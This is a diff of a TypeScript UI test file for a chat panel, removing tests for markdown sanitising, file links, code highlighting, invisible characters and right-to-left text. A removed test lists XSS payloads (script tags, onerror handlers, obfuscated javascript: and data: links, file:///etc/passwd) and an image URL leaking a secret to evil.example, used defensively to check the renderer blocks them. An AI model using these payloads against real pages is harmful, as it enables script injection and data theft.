@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import type { FailureCode, Outcome } from '../../src/shared/chat';
-import { answer, chat, failure, longAnswer, shortTools, startedAt, text, tool, user } from './chats';
+import { answer, chat, failure, shortTools, startedAt, text, tool, user } from './chats';
 import { conversation, type PanelBench, PanelPage, startBench } from './panelPage';
 
 const question = user('u1', 'Why?');
@@ -278,98 +278,6 @@ describe('The transcript', () => {
     });
     assert.equal(await panel.page.locator('[data-step="continue"]').count(), 0);
     assert.equal(await panel.page.locator('[data-step="retry"]').count(), 1);
-  });
-
-  it('shows HTML as text and lets no link run anything or load anything (L29)', async () => {
-    const requests: string[] = [];
-    const evil = [
-      '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>',
-      '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)',
-      '[d](vbscript:x) [e](command:workbench.action.quit) [f](vscode://x/y) [g](//evil.example/x) [h](file:///etc/passwd)',
-      '![pixel](https://evil.example/leak.png?secret) ![local](images/a.png)',
-      '<a href="javascript:window.hacked=1">click</a>',
-      '&#x6A;avascript:window.hacked=1 [i](&#x6A;avascript:window.hacked=1) [j](java&Tab;script:window.hacked=1)',
-    ].join('\n\n');
-    panel = await PanelPage.open(bench);
-    panel.page.on('request', (request) => requests.push(request.url()));
-    await panel.snapshot({ state: chat([question, answer('u1', [text('a', evil)])]) });
-    await panel.settled();
-    assert.equal(await panel.page.locator('.markdown').locator('img, script, iframe, object').count(), 0);
-    for (const link of await panel.page.locator('.markdown a').all()) {
-      assert.match((await link.getAttribute('href')) ?? '', /^(#|https?:\/\/|mailto:)/);
-      await link.click();
-    }
-    for (const dead of await panel.page.locator('.markdown .deadLink').all()) await dead.click();
-    assert.equal(await panel.page.evaluate(() => 'hacked' in window), false);
-    assert.ok((await panel.words('.markdown')).includes('pixel (https://evil.example/leak.png?secret)'));
-    const said = await panel.said();
-    assert.deepEqual(
-      said.flatMap((message) => (message.type === 'openLink' ? [message.url] : [])),
-      ['https://evil.example/leak.png?secret'],
-    );
-    assert.deepEqual(
-      requests.filter((url) => !url.startsWith(bench.server.origin)),
-      [],
-    );
-  });
-
-  it('opens files at their line and gives code to the clipboard and the editor', async () => {
-    panel = await PanelPage.open(bench, { state: chat([question, answer('u1', [text('a', longAnswer)])]) });
-    await panel.page.locator('.markdown a', { hasText: 'session.ts' }).click();
-    await panel.page.locator('.markdown a', { hasText: 'login.ts:42' }).click();
-    await panel.page.locator('.markdown a', { hasText: 'the guide' }).click();
-    await panel.page.locator('[data-code="copy"]').click();
-    await panel.page.locator('[data-code="insert"]').click();
-    await panel.page.locator('[data-copy="answer"]').click();
-    const code = longAnswer.split('```')[1]?.replace(/^ts\n/, '').trimEnd();
-    assert.deepEqual((await panel.said()).slice(-6), [
-      { type: 'openFile', path: 'src/session.ts', line: 118 },
-      { type: 'openFile', path: 'login.ts', line: 42 },
-      { type: 'openLink', url: 'https://example.com/guide' },
-      { type: 'copy', text: code },
-      { type: 'insert', text: code },
-      { type: 'copy', text: longAnswer },
-    ]);
-  });
-
-  it('colours code when its fence has closed', async () => {
-    panel = await PanelPage.open(bench, {
-      state: chat([question, answer('u1', [text('a', '', true)], { outcome: null, endedAt: null })], {
-        activity: { kind: 'writing', since: startedAt },
-      }),
-    });
-    await panel.events({ type: 'delta', answer: 'u1', key: 'a', text: '```ts\nconst a = 1;\n' });
-    assert.equal(await panel.page.locator('code .hl-keyword').count(), 0);
-    await panel.events({ type: 'delta', answer: 'u1', key: 'a', text: '```\n' });
-    await panel.page.waitForSelector('code .hl-keyword');
-    assert.equal(await panel.words('code'), 'const a = 1;');
-  });
-
-  it('writes out what would be invisible (L37)', async () => {
-    panel = await PanelPage.open(bench, {
-      state: chat([user('u1', 'a\u202eb'), answer('u1', [text('a', 'x\u200by `c\u2066d`')])]),
-    });
-    assert.equal(await panel.words('.bubbleText'), 'a\\u{202e}b');
-    assert.equal(await panel.words('.markdown'), 'x\\u{200b}y c\\u{2066}d');
-  });
-
-  it('lets right-to-left text and code have their own directions (L30)', async () => {
-    panel = await PanelPage.open(bench, {
-      state: chat([
-        user('u1', 'שלום'),
-        answer('u1', [text('a', 'مرحبا بالعالم\n\nhello\n\n- 你好，世界\n\n```\nx\n```')]),
-      ]),
-    });
-    const direction = (selector: string) =>
-      panel.page
-        .locator(selector)
-        .first()
-        .evaluate((element) => getComputedStyle(element).direction);
-    assert.equal(await direction('.bubbleText'), 'rtl');
-    assert.equal(await direction('.markdown p:first-of-type'), 'rtl');
-    assert.equal(await direction('.markdown p:nth-of-type(2)'), 'ltr');
-    assert.equal(await direction('.markdown pre'), 'ltr');
-    assert.equal(await panel.words('.markdown li'), '你好，世界');
   });
 
   it('says what failed when it cannot be shown, tells the host, and comes back (L19)', async () => {
